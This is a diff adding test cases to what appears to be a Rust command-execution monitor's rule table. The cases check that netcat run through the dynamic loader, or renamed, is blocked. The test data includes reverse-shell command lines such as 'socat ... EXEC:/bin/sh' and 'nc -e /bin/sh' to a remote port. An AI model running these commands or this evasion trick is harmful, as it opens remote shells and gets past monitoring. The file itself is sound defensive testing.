@@ -111,6 +111,27 @@ fn cases() -> Vec<Case> {
         case("nc -z 127.0.0.1 from a terminal", exec(NC, "nc -z 127.0.0.1 80").interactive(), Allow, None),
         case("nc -zv to another host is a probe: alerted", exec(NC, "nc -zv 10.0.0.5 22"), Alert, net_util),
         case("nc to a local service", exec(NC, "nc localhost 6379"), Allow, None),
+        case(
+            "nc started through the dynamic loader",
+            exec(
+                "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
+                "/lib64/ld-linux-x86-64.so.2 /usr/bin/nc 10.0.0.1 4444",
+            ),
+            Block,
+            launch,
+        ),
+        case(
+            "a renamed nc through the loader, known by the program's identity",
+            exec("/lib64/ld-linux-x86-64.so.2", "ld.so /tmp/x -e /bin/sh 10.0.0.1 4444").identity("nc"),
+            Block,
+            rce,
+        ),
+        case(
+            "the loader listing a program's libraries",
+            exec("/lib64/ld-linux-x86-64.so.2", "ld.so --list /usr/bin/nc"),
+            Allow,
+            None,
+        ),
         // Other offensive tools.
         case("socat", exec("/usr/bin/socat", "socat TCP:10.0.0.1:4444 EXEC:/bin/sh"), Block, launch),
         case("telnet", exec("/usr/bin/telnet", "telnet 10.0.0.1 23"), Block, launch),
